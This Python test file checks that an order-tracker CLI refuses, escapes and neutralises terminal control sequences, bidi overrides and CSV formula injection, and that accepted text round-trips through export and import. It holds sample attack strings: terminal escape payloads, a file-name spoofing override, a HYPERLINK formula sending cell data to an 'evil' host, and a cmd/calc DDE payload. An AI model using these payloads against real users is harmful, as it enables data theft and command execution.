"""Text that would act on a terminal or a spreadsheet: refused at input, shown escaped on
output, neutralised in CSV, and everything accepted survives export and import."""

from __future__ import annotations

import csv
import io
import itertools
import json
import sqlite3
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.cli.test_transfer import other  # noqa: F401 (a fixture: the CLI on a second book)
from tracker.engine import Event, EventKind, Order
from tracker.errors import OrdersError
from tracker.services import Book, check_text

TODAY = date(2026, 11, 26)
# What a terminal would act on: C0 but the line break, DEL, C1, bidi embeddings,
# overrides and isolates, lone surrogates. (U+2028/2029 too: some readers break lines there.)
EVIL = "evil\x1b]0;pwned\x07\x1b[2J\x9b31m\x7f\u202eRTL\u2066\x00nul\ttab\nline\u2028end"


def raw_controls(text: str, allowed: str = "\n") -> list[str]:
    return [
        hex(ord(c))
        for c in text
        if (ord(c) < 0x20 and c not in allowed)
        or 0x7F <= ord(c) <= 0x9F
        or 0x202A <= ord(c) <= 0x202E
        or 0x2066 <= ord(c) <= 0x2069
        or c in "\u2028\u2029"
        or 0xD800 <= ord(c) <= 0xDFFF
    ]


def one_error_line(result, code: int, words: str) -> None:
    assert result.code == code, (result.code, result.stdout, result.stderr)
    assert result.stderr.startswith("orders: error: ") and result.stderr.count("\n") == 1, result.stderr
    assert words in result.stderr, result.stderr
    assert raw_controls(result.stderr) == [], result.stderr


# ---- input: refused, naming the field --------------------------------------------------

BAD = ["\x1b[2J", "\x00", "\x07", "\x7f", "\x9b", "\x85x\x9f", "\u202e", "\u2067", "\u2069"]
FIELDS = [
    (("add", "2001", "--title"), "title"),
    (("add", "2001", "--store"), "store"),
    (("add", "2001", "--note"), "note"),
    (("add", "2001", "--shipped", "2026-11-20", "--tracking"), "tracking number"),
    (("edit", "1001", "--title"), "title"),
    (("dispute", "1001", "--reason"), "reason"),
    (("track", "1001"), "tracking note"),
    (("ship", "1002", "--tracking"), "tracking number"),
]


@pytest.mark.parametrize(
    ("args", "field", "bad"),
    [(args, field, "\x1b[2J") for args, field in FIELDS] + [(FIELDS[0][0], "title", bad) for bad in BAD[1:]],
    ids=[" ".join(args[:1] + args[-1:]) for args, _ in FIELDS] + [f"title {hex(ord(bad[-1]))}" for bad in BAD[1:]],
)
def test_control_characters_are_refused_naming_the_field(orders, args, field, bad):
    assert orders("add", "1001", "--shipped", "2026-11-20", "--title", "kept").code == 0
    assert orders("add", "1002").code == 0
    before = orders("export").stdout

    result = orders(*args, f"a {bad} b")

    one_error_line(result, 1, f"{field} holds the control character \\")
    assert orders("export").stdout == before  # nothing written


def test_the_refusal_shows_the_character_escaped_and_is_translated(orders):
    one_error_line(orders("add", "2001", "--title", "x\x1b]0;pwned\x07"), 1, "title holds the control character \\x1b")
    one_error_line(orders("add", "2001", "--note", "\u202egnp.exe"), 1, "note holds the control character \\u202e")
    russian = orders("--lang", "ru", "add", "2001", "--title", "x\x1by")
    one_error_line(russian, 1, "\\x1b")
    assert "holds" not in russian.stderr


def test_tabs_and_line_breaks_are_still_folded_to_spaces(orders):
    assert orders("add", "2001", "--title", "\tUSB\n\r hub\u2028x\x85y\x1cz ").code == 0
    assert json.loads(orders("show", "2001", "--json").stdout)["title"] == "USB hub x y z"


@pytest.mark.parametrize(
    ("title", "shown"),
    [("\u001b]0;pwned\u0007", "\\x1b"), ("nul\u0000", "\\x00"), ("\u009b2J", "\\x9b"), ("\u202eevil", "\\u202e")],
)
def test_import_rejects_control_characters_on_the_orders_line(other, tmp_path, title, shown):
    good = {"order_no": "3001", "events": [{"kind": "paid", "date": "2026-11-20"}]}
    bad = {"order_no": "3002", "title": title, "events": [{"kind": "paid", "date": "2026-11-20"}]}
    source = tmp_path / "book.json"
    source.write_text(json.dumps({"schema_version": 1, "orders": [good, bad]}, indent=2))

    result = other("import", str(source))
    assert result.code == 1
    lines = result.stderr.splitlines()
    assert lines[0].startswith("line 13: title holds the control character " + shown), result.stderr
    assert raw_controls(result.stderr) == []
    assert json.loads(other("list", "--all", "--json").stdout) == []  # all or nothing

    skipped = other("import", "--skip-bad", str(source))
    assert skipped.code == 0 and skipped.stderr.startswith("line 13: title holds the control character")
    assert [o["order_no"] for o in json.loads(other("list", "--all", "--json").stdout)] == ["3001"]


def test_import_rejects_a_raw_control_character_in_a_csv_cell(other, tmp_path):
    source = tmp_path / "book.csv"
    source.write_text("order_no,title,kind,date\n3001,ok,paid,2026-11-20\n3002,x\x1b[2Jy,paid,2026-11-20\n")
    result = other("import", str(source))
    assert result.code == 1
    assert result.stderr.startswith("line 3: title holds the control character \\x1b"), result.stderr
    assert raw_controls(result.stderr) == []


# ---- output: whatever a database holds, nothing acts on the terminal ----------------


@pytest.fixture
def legacy(orders, db):
    """A book whose stored text holds control characters, as a database written before
    they were refused (or edited by hand) may."""
    assert orders("add", "1001", "--shipped", "2026-11-20", "--title", "placeholder").code == 0
    assert orders("dispute", "1001", "--reason", "placeholder").code == 0
    assert orders("add", "1002", "--shipped", "2026-11-20", "--tracking", "RB123456784CN").code == 0
    con = sqlite3.connect(db)
    with con:
        con.execute("UPDATE orders SET title = ?, store = ?, note = ?", (EVIL, EVIL, EVIL))
        con.execute("UPDATE orders SET tracking = ? WHERE order_no = '1001'", ("RB\x1b[2J",))
        con.execute("UPDATE events SET value = ? WHERE kind IN ('dispute_opened', 'shipped')", (EVIL,))
        # the stored warning that quotes 1002's tracking number (it fails its check digit)
        con.execute("UPDATE orders SET warnings = replace(warnings, 'RB123456784CN', ?)", ("RB\\u001b]0;x\\u0007",))
    con.close()
    return orders


@pytest.fixture
def poisoned(legacy, config):
    """The same, with rules.toml names and links holding control characters too."""
    (config / "rules.toml").write_text(
        '[aliexpress]\nname = "Ali\\u001b[2J"\norder_url = "https://x.test/{order_no}\\u001b]0;t\\u0007"\n'
        'checked = "2026\\u009b"\n[aliexpress.sources]\nprotection_days = "see \\u202eelsewhere"\n'
    )
    return legacy


@pytest.fixture
def config(isolated_user):
    return isolated_user


@pytest.mark.parametrize(
    "args",
    [
        ("due", "--all"),
        ("due", "--all", "--json"),
        ("list",),
        ("list", "--all", "--json"),
        ("show", "1001"),
        ("show", "1001", "--json"),
        ("show", "1002"),
        ("remind",),
        ("remind", "--json"),
        ("rules",),
        ("rules", "show", "aliexpress"),
        ("rules", "--json"),
        ("export",),
        ("export", "--format", "csv"),
    ],
)
def test_stored_control_characters_never_reach_the_output(poisoned, args):
    result = poisoned(*args)
    assert result.code == 0, result.stderr
    assert raw_controls(result.stdout) == [], result.stdout
    assert raw_controls(result.stderr) == [], result.stderr
    if "--json" in args or args == ("export",):
        json.loads(result.stdout)  # still valid JSON
    else:
        assert "\\x1b" in result.stdout  # shown, escaped, not dropped


def test_terminal_output_shows_each_control_character_escaped(legacy):
    shown = legacy("show", "1001").stdout
    assert "title: evil\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\x7f\\u202eRTL\\u2066\\x00nul\\x09tab\\x0aline\\u2028end" in shown
    assert "dispute opened: evil\\x1b]0;pwned" in shown and "tracking: RB\\x1b[2J" in shown
    due = legacy("due", "--all").stdout
    assert "1001 evil\\x1b]0;pwned\\x07" in due
    assert "RB\\x1b]0;x\\x07 fails its check digit" in due  # a stored warning quoting the data
    assert raw_controls(due) == []
    assert json.loads(legacy("show", "1001", "--json").stdout)["title"] == EVIL


def test_the_calendar_carries_no_control_character(poisoned, tmp_path):
    target = tmp_path / "orders.ics"
    assert poisoned("export-ics", "--all", "--output", str(target)).code == 0
    text = target.read_bytes().decode("utf-8").replace("\r\n ", "")  # unfolded
    assert raw_controls(text.replace("\r\n", ""), allowed="") == []
    assert ": evil]0\\;pwned[2J31mRTLnultablineend (1001)\r\n" in text  # dropped
    assert "URL:https://x.test/1001]0%3Bt\r\n" in text


def test_error_messages_show_what_the_user_gave_escaped(orders, tmp_path):
    assert orders("add", "1001").code == 0
    one_error_line(orders("show", "10\x1b[2J01"), 1, "'10\\x1b[2J01'")
    one_error_line(orders("import", str(tmp_path / "a\x1b]0;x\x07.json")), 1, "a\\x1b]0;x\\x07.json")
    one_error_line(orders("add", "\u202e1001"), 1, "invalid order number")


def test_completion_shows_a_stored_order_number_escaped(orders, db, capsys):
    from tracker.cli.quick import complete_orders

    assert orders("add", "1001").code == 0
    con = sqlite3.connect(db)
    with con:
        con.execute("UPDATE orders SET order_no = ?", ("10\x1b[2J01",))
    con.close()
    complete_orders(["--db", str(db), "__complete-orders", "10"])
    assert capsys.readouterr().out == "10\\x1b[2J01\n"


# ---- CSV: no formula runs in a spreadsheet, and import undoes the escape ---------------

FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "'=x", "'", "-5", "\t=1+1"]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_formula_like_cells_are_neutralised_and_import_restores_them_exactly(orders, other, tmp_path):
    for n, title in enumerate(FORMULAS):
        assert orders("add", f"{4000 + n}", "--title", title, "--store", title, "--note", title).code == 0
    assert orders("dispute", "4000", "--reason", "=1+2").code == 0
    exported = orders("export", "--format", "csv").stdout
    assert not [c for c in csv_cells(exported) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK" in exported and "'+cmd|" in exported and "'@SUM" in exported
    assert "''=x" in exported and ",'',"  in exported and "'-5" in exported and "'=1+2" in exported

    source = tmp_path / "book.csv"
    source.write_text(exported)
    imported = other("import", str(source))
    assert imported.code == 0, imported.stderr
    before = {o["order_no"]: o for o in json.loads(orders("list", "--all", "--json").stdout)}
    after = {o["order_no"]: o for o in json.loads(other("list", "--all", "--json").stdout)}
    assert after == before
    assert [after[f"{4000 + n}"]["title"] for n in range(len(FORMULAS))] == [*FORMULAS[:-1], "=1+1"]
    assert other("export", "--format", "csv").stdout == exported


def test_a_stored_title_starting_with_a_tab_does_not_start_its_cell_with_a_tab(orders, db):
    assert orders("add", "1001").code == 0
    con = sqlite3.connect(db)
    with con:
        con.execute("UPDATE orders SET title = ?", ("\t=1+1",))
    con.close()
    cells = csv_cells(orders("export", "--format", "csv").stdout)
    assert "\\x09=1+1" in cells


# ---- round trip: what check_text accepts comes back unchanged -----------------------

# Any text, and text made of what CSV and spreadsheets treat specially.
accepted = st.one_of(
    st.text(max_size=60),
    st.text(st.sampled_from("'=+-@\t\r\n\",; \\x\x00\x1b\u202e"), max_size=12),
    st.sampled_from(FORMULAS),
).filter(lambda t: _accepts(t, 500))


def _accepts(text: str, limit: int) -> bool:
    try:
        check_text(text, "text", limit)
    except OrdersError:
        return False
    return True


@pytest.fixture(scope="module")
def books(tmp_path_factory):
    """A source book and one target per format, shared by the examples (each adds orders
    under new numbers): a fresh database per example would cost most of the time."""
    from tracker import transfer

    scratch = tmp_path_factory.mktemp("round-trip")
    source = Book(scratch / "source.db", TODAY)
    targets = {fmt: Book(scratch / f"{fmt}.db", TODAY) for fmt in transfer.FORMATS}
    return source, targets, itertools.count(5001), scratch


texts = st.fixed_dictionaries(
    {"title": accepted, "store": accepted, "note": accepted, "reason": accepted,
     "tracking": st.text(max_size=64).filter(lambda t: _accepts(t, 64))}
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
@given(st.lists(texts, min_size=1, max_size=4))
def test_any_accepted_text_survives_export_and_import_in_both_formats(books, drawn):
    from tracker import transfer

    source, targets, numbers, scratch = books
    new = []
    with source.writing() as session:  # as `add`, `ship` and `dispute` would store them, in one go
        for text in drawn:
            order_no = str(next(numbers))
            order = Order(order_no, **{k: check_text(text[k], k) for k in ("title", "store", "note")})
            events = [
                Event(EventKind.PAID, date(2026, 11, 1)),
                Event(EventKind.SHIPPED, date(2026, 11, 2), value=check_text(text["tracking"], "tracking", 64)),
                Event(EventKind.DISPUTE_OPENED, date(2026, 11, 3), value=check_text(text["reason"], "reason")),
            ]
            view = source.check_history(order, events)
            source.store_history(session, view.order, events)
            new.append(order_no)
    stored = transfer.stored_histories(source.db_path)
    for fmt, target in targets.items():
        text, _count = transfer.export_text(source.db_path, fmt)
        exported = scratch / f"book.{fmt}"
        transfer.write_file(text, exported)  # as `export -o` and `import` would, through the file
        read, name = transfer.read_source(str(exported))
        report = transfer.import_records(target, transfer.read_records(read, name, fmt), skip_bad=False)
        assert report.rejected == [] and report.added == new, (fmt, report.rejected)
        assert transfer.stored_histories(target.db_path) == stored, fmt
        assert transfer.export_text(target.db_path, fmt)[0] == text, fmt


def test_every_hidden_character_is_escaped_refused_and_dropped():
    """The whole set, character by character (output skips its search for clean text)."""
    from tracker.text import first_hidden, json_visible, visible, without_hidden

    hidden = [*map(chr, range(0x20)), *map(chr, range(0x7F, 0xA0)), "\u2028", "\u2029",
              *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A)), *map(chr, range(0xD800, 0xE000))]
    for c in hidden:
        text = f"a{c}b"
        assert visible(text) in (f"a\\x{ord(c):02x}b", f"a\\u{ord(c):04x}b")
        assert first_hidden(text) == c and without_hidden(text) == "ab"
        assert json.loads(json_visible(json.dumps(text, ensure_ascii=False))) == text
        assert raw_controls(json_visible(json.dumps(text, ensure_ascii=False))) == []
    for clean in ("USB хаб", "\u00a0nbsp\u00ad\u200b", "😀 \\x1b", "\u0600\u061c\u200e"):
        assert visible(clean) == clean and first_hidden(clean) is None and without_hidden(clean) == clean


def test_a_file_name_on_a_success_line_is_shown_escaped(orders, tmp_path):
    assert orders("add", "1001").code == 0
    target = tmp_path / "out\x1b]0;x\x07.json"
    exported = orders("export", "--output", str(target))
    assert exported.code == 0 and target.exists()
    assert "\x1b" not in exported.stdout and "\x07" not in exported.stdout
    assert "out\\x1b]0;x\\x07.json" in exported.stdout
    imported = orders("import", str(target))
    assert imported.code == 0 and "\x1b" not in imported.stdout + imported.stderr
